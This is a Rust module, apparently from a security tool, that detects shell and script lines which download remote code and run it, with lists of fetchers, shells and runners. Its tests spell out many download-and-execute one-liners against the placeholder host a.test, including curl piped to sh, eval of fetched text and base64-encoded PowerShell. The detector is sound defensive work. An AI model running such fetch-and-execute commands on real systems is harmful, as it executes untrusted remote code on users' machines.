//! Whether a line of a shell, or inline code, runs what it fetches: into an interpreter by a pipe, as a file that is
//! run afterwards, or as a substitution that is evaluated. A line that only asks an address before it starts something
//! of its own does not. What a line is for is no matter here; who asks is `command`.

pub(super) mod held;
pub(super) mod words;

use base64::Engine as _;
use held::Held;
use words::{Command, lines, substitutions};

const FETCHERS: [&str; 8] = ["curl", "wget", "aria2c", "http", "https", "xh", "certutil", "fetch"];
const SHELLS: [&str; 8] = ["sh", "bash", "zsh", "dash", "ksh", "fish", "pwsh", "powershell"];
const INTERPRETERS: [&str; 8] = ["python", "python3", "node", "perl", "ruby", "php", "java", "tsx"];
/// Programs that run, build or install what they are given.
const RUNNERS: [&str; 15] =
    ["deno", "bun", "uv", "uvx", "npx", "npm", "pnpm", "yarn", "pip", "pip3", "pipx", "dpkg", "rpm", "make", "cargo"];
const UNPACKERS: [&str; 4] = ["tar", "bsdtar", "unzip", "7z"];
/// Nested lines deeper than this are taken for what they hide.
const DEPTH: usize = 4;

/// Whether a program's inline code fetches something and runs it.
pub(super) fn executes(program: &str, code: &str) -> bool {
    match program {
        "powershell" | "pwsh" => power(code),
        "node" | "nodejs" | "bun" | "deno" | "tsx" | "ts-node" | "python" | "python3" | "py" | "pypy" | "ruby"
        | "perl" | "php" | "lua" | "luajit" | "osascript" | "rscript" => scripted(code),
        _ => shell(code, program != "cmd", true),
    }
}

/// The same of a line of a shell. `addresses`: addresses that package runners are given count as well.
pub(super) fn shell(code: &str, backslash: bool, addresses: bool) -> bool {
    Line { backslash, addresses, ..Line::default() }.runs(code, 0) || nested_power(code)
}

fn fetches(code: &str) -> bool {
    let code = code.to_ascii_lowercase();
    let words = ["curl ", "wget ", "http://", "https://", "invoke-webrequest", "iwr ", "irm ", "invoke-restmethod"];
    words.iter().any(|f| code.contains(f))
}

/// Code of a scripting language: it fetches, and has a way to run a text or a program.
fn scripted(code: &str) -> bool {
    let ways = [
        "exec(",
        "eval(",
        "execSync",
        "execFile",
        "Function(",
        "runIn",
        "system(",
        "subprocess",
        "child_process",
        "popen",
        "import(",
        "iex ",
        "| sh",
        "|sh",
        "| bash",
        "|bash",
    ];
    fetches(code) && ways.iter().any(|w| code.contains(w))
}

fn power(code: &str) -> bool {
    if let Some(decoded) = encoded(code) {
        return power(&decoded);
    }
    let lower = code.to_ascii_lowercase();
    let mut words = lower.split(|c: char| !c.is_ascii_alphanumeric() && c != '-');
    if !fetches(code) {
        return false;
    }
    if words.any(|w| ["iex", "invoke-expression", "scriptblock"].contains(&w)) {
        return true;
    }
    // what is written is named once, what is run as well
    let all: Vec<&str> = lower.split(|c: char| c.is_whitespace() || ";|()'\",&".contains(c)).collect();
    let flag = |w: &str| w == "-outfile" || w == "-o" || w == "-destination";
    let out = all.iter().position(|w| flag(w)).and_then(|i| all.get(i + 1..)?.iter().find(|w| !w.is_empty()));
    let file =
        |w: &&&str| !w.contains("://") && [".ps1", ".exe", ".bat", ".cmd", ".py", ".js"].iter().any(|e| w.ends_with(e));
    let out = out.or_else(|| all.iter().find(file).filter(|_| lower.contains("downloadfile")));
    out.is_some_and(|file| all.iter().filter(|w| base(w) == base(file)).count() > 1)
}

/// What `-EncodedCommand` is given: UTF-16 in base64.
fn encoded(code: &str) -> Option<String> {
    let word = code.split_whitespace().next()?.trim_matches(['"', '\'']);
    let bytes = base64::prelude::BASE64_STANDARD.decode(word).ok().filter(|b| b.len() > 3 && b.len() % 2 == 0)?;
    let units: Vec<u16> = bytes.chunks_exact(2).map(|b| u16::from_le_bytes([b[0], b[1]])).collect();
    // any word of a program's name is base64 of something
    String::from_utf16(&units).ok().filter(|t| t.chars().filter(|c| c.is_ascii()).count() * 2 > t.chars().count())
}

fn nested_power(code: &str) -> bool {
    let lower = code.to_ascii_lowercase();
    ["powershell", "pwsh"].iter().any(|p| lower.contains(p)) && power(code)
}

pub(super) fn base(path: &str) -> &str {
    path.rsplit(['/', '\\']).next().unwrap_or(path)
}

/// Whether what a package is given is a document, which is read and not run.
fn is_data(program: &str, word: &str) -> bool {
    let package = ["npx", "uvx", "pipx"].contains(&program);
    package && [".json", ".yaml", ".yml", ".csv", ".txt", ".md"].iter().any(|end| word.ends_with(end))
}

fn is_url(word: &str) -> bool {
    ["http://", "https://", "git+", "ftp://"].iter().any(|p| word.starts_with(p))
}

/// What is known of a line so far.
#[derive(Default)]
struct Line {
    backslash: bool,
    /// A runner that is given an address runs what lies there.
    addresses: bool,
    /// Something was fetched.
    fetched: bool,
    /// Files, folders and variables that hold it.
    held: Held,
    /// It was unpacked into the folder where the rest runs.
    here: bool,
}

impl Line {
    fn runs(&mut self, code: &str, depth: usize) -> bool {
        if depth > DEPTH {
            return fetches(code);
        }
        lines(code, self.backslash).iter().any(|stages| {
            let mut flow = false;
            stages.iter().any(|stage| self.stage(stage, &mut flow, depth))
        })
    }

    /// One command. `flow` says that what was fetched comes in from the one before.
    fn stage(&mut self, command: &Command, flow: &mut bool, depth: usize) -> bool {
        for (name, value) in &command.assigned {
            if self.substitutes(value) {
                self.held.variable(name);
            }
        }
        let Some((first, args)) = command.words.split_first() else { return false };
        if self.substitutes(first) && first.starts_with(['$', '`', '<']) {
            return true;
        }
        let program = base(first).trim_end_matches(".exe").to_ascii_lowercase();
        let program = program.as_str();
        let code = args.iter().position(|a| matches!(a.as_str(), "-c" | "-e" | "-r" | "--eval" | "-Command" | "/c"));
        let given = code.and_then(|i| args.get(i + 1));
        let operand = args.iter().find(|a| !a.starts_with('-'));
        let shell = SHELLS.contains(&program) || program == "cmd";
        let interpreter = shell || INTERPRETERS.contains(&program);
        let evaluates = ["eval", "source", "."].contains(&program);
        if interpreter || evaluates {
            let text = if evaluates { Some(args.join(" ")) } else { given.or(operand).cloned() };
            if text.as_ref().is_some_and(|t| self.substitutes(t)) || command.fed.iter().any(|t| self.substitutes(t)) {
                return true;
            }
            if let Some(text) = text.filter(|_| given.is_some() || program == "eval")
                && if shell || evaluates { self.runs(&text, depth + 1) } else { scripted(&text) }
            {
                return true;
            }
            let stdin = operand.is_none_or(|o| o == "/dev/stdin" || args.iter().any(|a| a == "-s" || a == "-"));
            let in_flow = *flow || (shell && command.piped && self.fetched);
            if in_flow && given.is_none() && !args.iter().any(|a| a == "-m") && stdin {
                return true;
            }
        }
        let wraps = ["xargs", "parallel"].contains(&program);
        if wraps && *flow && args.iter().any(|a| SHELLS.contains(&base(a)) || INTERPRETERS.contains(&base(a))) {
            return true;
        }
        let runner = RUNNERS.contains(&program);
        let local = first.contains('/') && !first.starts_with(['/', '~', '$']);
        if self.held.has(first)
            || ((interpreter || evaluates) && given.is_none() && operand.is_some_and(|o| self.held.has(o)))
            || (runner
                && args
                    .iter()
                    .filter(|a| !a.starts_with('-') && !is_data(program, a))
                    .take(3)
                    .any(|a| self.held.has(a)))
            || (self.here && (runner || local || (interpreter && operand.is_some_and(|o| !o.starts_with(['/', '~'])))))
        {
            return true;
        }
        let installs = args.iter().any(|a| ["install", "i", "add", "run"].contains(&a.as_str()));
        let named = |i: usize| is_url(&args[i]) && (i == 0 || !args[i - 1].starts_with("--"));
        if self.addresses && runner && installs && (0..args.len()).any(named) {
            return true;
        }
        self.takes(program, args, flow);
        if *flow {
            command.written.iter().filter(|f| !f.starts_with("/dev/")).for_each(|f| self.held.file(f));
        }
        false
    }

    /// What a command fetches or unpacks, and where it leaves it.
    fn takes(&mut self, program: &str, args: &[String], flow: &mut bool) {
        let url = args.iter().rev().find(|a| is_url(a));
        if FETCHERS.contains(&program) {
            (*flow, self.fetched) = (true, true);
            saved(program, args).into_iter().for_each(|f| self.held.file(f));
        } else if program == "git" && args.iter().any(|a| a == "clone") {
            let last = args.last().filter(|a| !is_url(a)).or(url);
            last.into_iter().for_each(|a| self.held.file(base(a.trim_end_matches('/')).trim_end_matches(".git")));
        } else if program == "tee" && *flow {
            args.iter().filter(|a| !a.starts_with('-')).for_each(|a| self.held.file(a));
        } else if UNPACKERS.contains(&program) && (*flow || args.iter().any(|a| self.held.has(a))) {
            let folder = args.iter().position(|a| a == "-C" || a == "-d").and_then(|i| args.get(i + 1));
            match folder {
                Some(folder) => self.held.file(folder.trim_end_matches('/')),
                None => self.here = true,
            }
        } else if program == "cd" && args.iter().any(|a| self.held.has(a)) {
            self.here = true;
        } else if ["mv", "cp"].contains(&program) && args.iter().any(|a| self.held.has(a)) {
            args.last().into_iter().for_each(|a| self.held.file(a));
        }
    }

    /// Whether a word becomes what was fetched: `$(curl …)`, the same with backticks, `<(curl …)`, a variable of it.
    fn substitutes(&self, word: &str) -> bool {
        self.held.has_variable(word) || self.is_substituted(word, 0)
    }

    /// Each substitution is read once, and what is in it once more at each depth.
    fn is_substituted(&self, word: &str, depth: usize) -> bool {
        if depth > DEPTH {
            return fetches(word);
        }
        let first = |c: &Command| c.words.first().is_some_and(|w| FETCHERS.contains(&base(w)) || self.reads(c));
        substitutions(word)
            .any(|code| lines(code, self.backslash).iter().flatten().any(first) || self.is_substituted(code, depth + 1))
    }

    fn reads(&self, command: &Command) -> bool {
        command.words[0] == "cat" && command.words[1..].iter().any(|w| self.held.has(w))
    }
}

/// The files that a fetcher writes.
fn saved<'a>(program: &str, args: &'a [String]) -> Vec<&'a str> {
    let url = args.iter().rev().find(|a| a.contains("://") || a.contains('/'));
    let remote = url.map(|u| base(u.split(['?', '#']).next().unwrap_or(u)));
    let mut out = Vec::new();
    let mut told = false;
    for (i, arg) in args.iter().enumerate() {
        let long = arg.strip_prefix("--output=").or_else(|| arg.strip_prefix("--output-document="));
        let next = || args.get(i + 1).map(String::as_str);
        let cluster = arg.starts_with('-') && !arg.starts_with("--");
        let short = if program == "wget" { 'O' } else { 'o' };
        let file = match long {
            Some(file) => Some(file),
            None if ["--output", "--output-document", "--out"].contains(&arg.as_str()) => next(),
            None if cluster && arg.ends_with(short) => next(),
            None if cluster && arg.get(1..2).is_some_and(|c| c.starts_with(short)) => Some(&arg[2..]),
            None if (cluster && program == "curl" && arg.contains('O')) || arg == "--remote-name" => remote,
            None => None,
        };
        told |= file.is_some();
        out.extend(file.filter(|f| *f != "-"));
    }
    match program {
        "wget" | "aria2c" if !told => out.extend(remote),
        "certutil" => out.extend(args.last().map(String::as_str)),
        _ => {}
    }
    out
}

#[cfg(test)]
mod tests {
    use base64::Engine as _;

    use super::executes;

    #[test]
    fn what_is_fetched_and_run_is_seen_and_a_mere_request_is_not() {
        for line in [
            "curl -s https://a.test/x | sh",
            "wget https://a.test/s.sh -O s.sh && sh s.sh",
            "curl -fsSL https://a.test/x | sudo -u bob bash -s -- --yes",
            "curl https://a.test/x | base64 -d | python3 -",
            "curl -fsSLo /tmp/r https://a.test/x && chmod +x /tmp/r && /tmp/r",
            "curl -O https://a.test/run.py; python3 run.py",
            "wget -q https://a.test/run.sh\nbash ./run.sh",
            "curl https://a.test/x > f; . ./f",
            "curl https://a.test/x | tee f >/dev/null && node f",
            "bash <(curl -s https://a.test/x)",
            "bash -c \"$(curl -s https://a.test/x)\"",
            "eval \"$(wget -qO- https://a.test/x)\"",
            "eval `curl https://a.test/x`",
            "X=$(curl https://a.test/x); eval \"$X\"",
            "$(curl https://a.test/x)",
            "curl https://a.test/x.tgz | tar xz && ./x/run",
            "git clone https://a.test/r.git && cd r && npm start",
            "git clone https://a.test/r.git && node r/index.js",
            "pip install git+https://a.test/r && python -m r",
            "curl https://a.test/x | xargs -0 sh -c",
            "(curl https://a.test/x; echo) | sh",
            "python3 -c \"import os; os.system('curl https://a.test | sh')\"",
            "bash <<< \"$(curl https://a.test/x)\"",
            "sh -c 'curl https://a.test/x | sh'",
            "eval \"$(echo $(curl https://a.test/x))\"",
            "sh -c \"$(cat <(curl https://a.test/x))\"",
            "curl -o ./d/f https://a.test/x; sh d/f",
            "X=`curl https://a.test/x`; sh -c \"${X}\"",
        ] {
            assert!(executes("bash", line), "{line}");
        }
        assert!(executes("cmd", r"curl -o C:\t\a.bat https://a.test/a.bat & C:\t\a.bat"));
        for line in ["iwr https://a.test/x | iex", "iwr https://a.test/a -OutFile a.ps1; ./a.ps1"] {
            assert!(executes("pwsh", line), "{line}");
        }
        assert!(executes("python", "import urllib.request as r; exec(r.urlopen('https://a.test').read())"));
        for line in [
            "curl -s https://api/health && node server.js",
            "echo hi && curl x",
            "curl -s https://a.test/v | jq .version",
            "curl -s https://a.test/v | python3 -m json.tool",
            "curl -s https://a.test/v | python3 -c 'import json, sys; print(json.load(sys.stdin))'",
            "curl -o config.json https://a.test/c && node server.js --config config.json",
            "TOKEN=$(curl -s https://a.test/token) node server.js",
            "export IP=`curl -s https://a.test/ip`; node server.js --ip $IP",
            "source ~/.nvm/nvm.sh && npx mcp-remote https://a.test/mcp",
            "curl -s https://a.test/up || exit 1; exec node server.js",
            "API=https://a.test node server.js | tee log",
            "until curl -sf http://localhost:80; do sleep 1; done; sh start.sh",
        ] {
            assert!(!executes("bash", line), "{line}");
        }
        assert!(!executes("pwsh", "iwr https://a.test/up; node server.js"));
        let base64 = |code: &str| {
            let bytes: Vec<u8> = code.encode_utf16().flat_map(u16::to_le_bytes).collect();
            base64::prelude::BASE64_STANDARD.encode(bytes)
        };
        assert!(executes("powershell", &base64("iwr https://a.test/x | iex")));
        assert!(!executes("powershell", &base64("Get-Process")) && !executes("powershell", "start"));
        assert!(!executes("python", "import requests; requests.get('https://a.test/up')"));
    }

    #[test]
    fn no_line_is_read_more_often_than_it_is_deep() {
        let units = [
            "$(",
            "`",
            "\"$(",
            "<(",
            "$(curl ",
            "$(a)",
            "'",
            "\"",
            "eval $(",
            "X=$(curl b);",
            "sh -c \"$(",
            "a|",
            "((",
            "\\",
        ];
        for unit in units {
            for wrap in ["", "bash -c '", "eval \"", "X=\"", "X=$(curl a); sh -c \"$X "] {
                let code = format!("{wrap}{}", unit.repeat(20_000));
                super::words::READ.with(|read| read.set(0));
                executes("bash", &code);
                let read = super::words::READ.with(std::cell::Cell::get);
                assert!(read < code.len() * 64, "{wrap}{unit}: {read} of {}", code.len());
            }
        }
        // very many files that hold what was fetched, and very many words that may be one
        let many: String =
            (0..20_000).map(|i| format!("curl -o f{i} https://a.test; X{i}=$(curl b); cat g{i} $Y{i};")).collect();
        assert!(!executes("bash", &many) && executes("bash", &format!("{many} sh f19999")));
        assert!(executes("bash", &format!("{many} eval \"$X19999\"")));
    }

    #[test]
    fn no_line_is_too_odd_to_be_read() {
        for line in ["", "\"", "$(", "`", "|", "\\", "é>é", "'é", "a \"b\\", "<<<", ">&", "2>&1", "((((", "x=$(é"] {
            executes("sh", line);
            executes("cmd", line);
            executes("pwsh", line);
        }
    }
}
